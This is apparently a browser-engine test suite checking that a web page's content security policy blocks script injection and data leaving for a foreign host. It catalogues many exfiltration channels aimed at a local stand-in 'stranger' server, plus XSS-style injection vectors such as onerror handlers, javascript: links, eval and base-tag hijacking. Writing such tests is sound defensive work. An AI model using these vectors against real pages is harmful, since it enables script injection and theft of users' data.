// The page's own policy, enforced by each engine: whatever smuggled code tries, nothing runs and nothing reaches a stranger.

import assert from "node:assert/strict";
import { engineTest } from "./engines.mjs";
import { TWO, isStarted, paste, ranking } from "./pages.mjs";
import { serve } from "./server.mjs";

/** Every way out of a page that an injected script, or markup, could take. Each goes to an address that would see it. */
const WAYS_OUT = {
  fetch: (stranger) => fetch(`${stranger}/fetch`, { mode: "no-cors", method: "POST", body: "numbers" }).catch(() => {}),
  request: (stranger) => new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onloadend = resolve;
    request.open("GET", `${stranger}/request`);
    request.send();
  }),
  beacon: (stranger) => navigator.sendBeacon?.(`${stranger}/beacon`, "numbers"),
  socket: (stranger) => { new WebSocket(`${stranger.replace("http", "ws")}/socket`); },
  events: (stranger) => { new EventSource(`${stranger}/events`); },
  picture: (stranger) => { new Image().src = `${stranger}/picture`; },
  script: (stranger) => { document.body.append(Object.assign(document.createElement("script"), { src: `${stranger}/script` })); },
  style: (stranger) => { document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${stranger}/style` })); },
  background: (stranger) => { document.body.style.backgroundImage = `url(${stranger}/background)`; },
  font: (stranger) => new FontFace("stranger", `url(${stranger}/font)`).load().catch(() => {}),
  frame: (stranger) => { document.body.append(Object.assign(document.createElement("iframe"), { src: `${stranger}/frame` })); },
  object: (stranger) => { document.body.append(Object.assign(document.createElement("object"), { data: `${stranger}/object` })); },
  film: (stranger) => { document.body.append(Object.assign(document.createElement("video"), { src: `${stranger}/film`, autoplay: true })); },
  worker: (stranger) => { new Worker(`${stranger}/worker`); },
  module: (stranger) => import(`${stranger}/module`).catch(() => {}),
  form: (stranger) => {
    const form = Object.assign(document.createElement("form"), { action: `${stranger}/form`, method: "post" });
    document.body.append(form);
    form.submit();
  },
  prefetch: (stranger) => { document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: `${stranger}/prefetch` })); },
};

/** Every way for words to become code. */
const WAYS_IN = {
  inline: () => { document.body.append(Object.assign(document.createElement("script"), { textContent: "globalThis.smuggled = 'inline'" })); },
  handler: () => {
    document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\"globalThis.smuggled = 'handler'\">");
  },
  click: () => {
    document.body.insertAdjacentHTML("beforeend", "<button id=smuggler onclick=\"globalThis.smuggled = 'click'\">");
    document.querySelector("#smuggler").click();
  },
  eval: () => { (0, eval)("globalThis.smuggled = 'eval'"); },
  function: () => { new Function("globalThis.smuggled = 'function'")(); },
  timer: () => { setTimeout("globalThis.smuggled = 'timer'"); },
  address: () => {
    document.body.insertAdjacentHTML("beforeend", "<a id=leads href=\"javascript:globalThis.smuggled = 'address'\">x</a>");
    document.querySelector("#leads").click();
  },
  data: () => { document.body.append(Object.assign(document.createElement("script"), { src: "data:text/javascript,globalThis.smuggled = 'data'" })); },
  frame: () => { document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "<script>parent.smuggled = 'frame'</script>" })); },
  base: () => { document.head.append(Object.assign(document.createElement("base"), { href: "https://example.org/" })); },
};

engineTest("no way out leads to a stranger", async ({ open }) => {
  const host = await serve({ folders: { "/zielwert/": "dist" } });
  const stranger = await serve({ host: "localhost", pages: Object.fromEntries(Object.keys(WAYS_OUT).map((it) => [`/${it}`, "globalThis.smuggled = 'script'"])) });
  const page = await open(`${host.origin}/zielwert/?lang=de`);
  await page.until(isStarted);
  await page.run(paste, TWO);
  await page.until(ranking);
  for (const [name, way] of Object.entries(WAYS_OUT)) {
    // What is refused by an exception is refused.
    await page.run(`async (stranger) => { try { await Promise.race([(${way})(stranger), new Promise((resolve) => setTimeout(resolve, 500))]); } catch {} }`, stranger.origin).catch((reason) => assert.fail(`${name}: ${reason}`));
  }
  await page.run(() => new Promise((resolve) => setTimeout(resolve, 700)));
  assert.deepEqual(stranger.requests, [], "a stranger was asked");
  assert.equal(await page.run(() => globalThis.smuggled ?? null), null);
  assert.equal((await page.run(ranking)).length, 2, "and the page goes on");
  await Promise.all([host.stop(), stranger.stop()]);
});

engineTest("no words become code", async ({ open }) => {
  const host = await serve({ folders: { "/zielwert/": "dist" } });
  const page = await open(`${host.origin}/zielwert/?lang=de`);
  await page.until(isStarted);
  // In a task of the page's own: what a test's driver runs itself may use `eval` whatever the policy says.
  for (const way of Object.values(WAYS_IN)) await page.run(`() => new Promise((resolve) => setTimeout(() => { try { (${way})(); } catch {} finally { resolve(); } }))`);
  await page.run(() => new Promise((resolve) => setTimeout(resolve, 500)));
  assert.equal(await page.run(() => globalThis.smuggled ?? null), null);
  assert.ok((await page.run(() => document.baseURI)).startsWith(host.origin));
  await host.stop();
});

// Without the policy the same ways lead out and in: the tests above would notice.
engineTest("the same page without its policy would let them through", async ({ open }) => {
  const stranger = await serve({ host: "localhost", pages: { "/fetch": "" } });
  const host = await serve({ pages: { "/": "<!doctype html><title>Blank</title><body>" } });
  const page = await open(`${host.origin}/`);
  await page.run(`async (stranger) => { await (${WAYS_OUT.fetch})(stranger); }`, stranger.origin);
  await page.run(`() => { (${WAYS_IN.inline})(); }`);
  assert.deepEqual(stranger.requests, ["/fetch"]);
  assert.equal(await page.run(() => globalThis.smuggled), "inline");
  await Promise.all([host.stop(), stranger.stop()]);
});
